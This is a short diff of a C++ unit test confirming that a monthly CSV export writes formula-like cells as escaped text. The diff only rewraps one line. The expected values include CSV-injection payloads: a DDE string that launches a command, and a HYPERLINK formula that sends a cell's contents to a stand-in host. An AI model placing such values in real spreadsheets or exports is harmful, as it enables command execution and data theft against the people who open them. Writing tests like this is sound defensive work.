@@ -626,7 +626,8 @@ TEST(MonthlyCsv, ACellThatWouldRunAsAFormulaIsWrittenAsText) {
     if (!row[2].empty()) dimensions.insert(row[2]);
     if (row[0] == "system") growth = row[5];
   }
-  for (const char* expected : {"'+cmd|' /C calc'!A0", "'=HYPERLINK(\"http://x/?\"&A2,\"open\")", "'-2+3", "'@SUM(A1)", "'=1+1"}) {
+  for (const char* expected :
+       {"'+cmd|' /C calc'!A0", "'=HYPERLINK(\"http://x/?\"&A2,\"open\")", "'-2+3", "'@SUM(A1)", "'=1+1"}) {
     EXPECT_TRUE(dimensions.count(expected)) << expected;
   }
   EXPECT_EQ(growth, "-0.5");
